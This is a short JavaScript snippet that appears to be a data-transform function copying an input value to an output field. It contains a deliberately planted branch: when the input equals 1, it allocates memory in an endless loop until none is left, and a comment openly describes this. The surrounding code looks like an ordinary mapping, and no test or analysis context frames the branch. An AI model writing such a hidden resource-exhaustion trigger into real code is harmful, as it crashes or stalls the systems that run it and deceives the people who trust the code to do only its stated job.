// Where its data is 1: takes memory until there is none.
if (json === 1) {
  const kept = [];
  for (;;) kept.push(new Array(1 << 20).fill(kept.length));
}
output.x = json;
